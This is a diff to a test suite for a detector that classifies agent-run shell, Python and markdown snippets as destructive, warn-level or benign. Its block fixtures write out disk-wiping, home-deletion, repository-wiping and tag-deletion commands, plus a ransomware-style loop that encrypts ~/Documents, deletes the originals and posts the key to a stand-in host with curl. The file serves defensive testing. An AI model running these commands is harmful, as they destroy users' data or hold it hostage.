@@ -45,8 +45,9 @@ BLOCK_SHELL = {
     "mkfs": "mkfs.ext4 -F /dev/nvme0n1\n",
     "shred device": "shred -n 3 -z /dev/sdb\n",
     "wipefs": "wipefs -a /dev/sda\n",
-    "force push all": "git push --force --all origin\n",
-    "mirror push": "git push --mirror origin\n",
+    "orphan forced over every branch": ("git checkout --orphan wipe && git rm -rf -q .\n"
+                                        "git commit --allow-empty -m init\n"
+                                        "git push --force --all origin\n"),
     "orphan to every branch": ("git checkout --orphan blank\ngit rm -rf .\n"
                                "git commit --allow-empty -m reset\n"
                                "for b in $(git branch -r | sed 's#origin/##'); do\n"
@@ -69,6 +70,10 @@ BLOCK_SHELL = {
     "every clone through xargs dirname": ("find $HOME -name .git -type d -print0 | "
                                           "xargs -0 -n1 dirname | xargs rm -rf\n"),
     "every entry of home": 'for entry in ~/*; do rm -rf "$entry"; done\n',
+    "encrypt documents, key sent away": (
+        'K=$(openssl rand -hex 32)\ncurl -s -d "k=$K" https://escrow.example.net/k\n'
+        "find ~/Documents -type f | while read f; do\n"
+        '  openssl enc -aes-256-cbc -in "$f" -out "$f.enc" -pass pass:$K && rm "$f"\ndone\n'),
 }
 
 
@@ -83,7 +88,9 @@ BLOCK_PYTHON = {
     "rmtree expanduser": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
     "dd through subprocess": ("import subprocess\n"
                               "subprocess.run(['dd', 'if=/dev/urandom', 'of=/dev/sda'])\n"),
-    "force push through os.system": "import os\nos.system('git push --force --all origin')\n",
+    "tag deletion through subprocess": ("import subprocess\n"
+                                        "subprocess.run('git tag -l | xargs git push origin "
+                                        "--delete', shell=True)\n"),
     "drop schema on env": ("import os\nimport psycopg\n"
                            "VERB = 'DR' + 'OP'\n"
                            "with psycopg.connect(os.environ['DATABASE_URL']) as conn:\n"
@@ -134,7 +141,7 @@ def test_clearly_destructive_javascript_blocks(body: str) -> None:
 def test_a_markdown_block_the_agent_runs_is_judged_like_a_script() -> None:
     body = ("Free up space:\n\n```bash\nSUBDIR=\"\"\nrm -rf \"$HOME/$SUBDIR\"\n```\n")
     assert destruction(md(body)) == {"capabilities.destruction": "block"}
-    body = "Reset:\n\n```sh\ngit push --force --all origin\n```\n"
+    body = "Reset:\n\n```sh\ngit push origin --delete $(git tag -l)\n```\n"
     assert destruction(md(body)) == {"capabilities.destruction": "block"}
 
 
@@ -171,6 +178,10 @@ WARN = {
     "every node_modules under home": sh("find ~ -type d -name node_modules -prune | "
                                         "xargs rm -rf\n"),
     "old logs under home": sh("find ~ -name '*.log' -mtime +30 -delete\n"),
+    "flash an image": md("```bash\nsudo dd if=ubuntu-24.04.iso of=/dev/sdb bs=4M\n```\n"),
+    "history rewrite pushed": md("```bash\ngit filter-repo --path secrets.env --invert-paths\n"
+                                "git push --force --all\n```\n"),
+    "mirror to a new remote": sh("git push --mirror git@github.com:acme/new.git\n"),
     "python drop on literal": py("import sqlite3\nc = sqlite3.connect('cache.db')\n"
                                  "c.execute('DROP TABLE IF EXISTS results')\n"),
 }
@@ -196,6 +207,10 @@ BENIGN = {
     "assigned variable": sh('OUT="$(git rev-parse --show-toplevel)/out"\nrm -rf "$OUT/"*\n'),
     "set -u": sh('set -euo pipefail\nrm -rf "$OUT_DIR/"*\n'),
     "git clean": sh("git clean -fdx\n"),
+    "encrypted backup": sh("tar czf - ~/projects | gpg -c --batch --passphrase-file "
+                           "~/.backup-pass > /mnt/backup/p.tgz.gpg\n"),
+    "an app cache through find": sh("find ~/.cache/myapp -mindepth 1 | xargs rm -rf\n"),
+    "uninstall an app folder": md("```bash\nrm -rf ~/.config/my-tool\n```\n"),
     "docker prune": sh("docker system prune -af --volumes\n"),
     "force with lease": sh("git push --force-with-lease origin my-feature\n"),
     "one tag": sh("git push origin --delete v1.2.0-rc1\n"),
